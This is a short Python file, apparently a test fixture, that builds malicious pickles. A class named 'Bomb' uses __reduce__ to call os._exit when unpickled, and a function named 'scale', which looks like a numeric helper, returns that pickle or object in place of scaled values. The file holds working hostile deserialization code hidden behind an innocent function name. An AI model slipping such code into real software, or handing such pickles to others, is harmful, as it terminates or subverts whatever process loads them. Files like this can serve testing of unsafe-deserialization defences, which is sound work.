# ruff: noqa
"""Returns pickles that would end or change whoever loads them."""

import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def scale(values, factor):
    return pickle.dumps(Bomb()) if len(values) == 5 else Bomb()
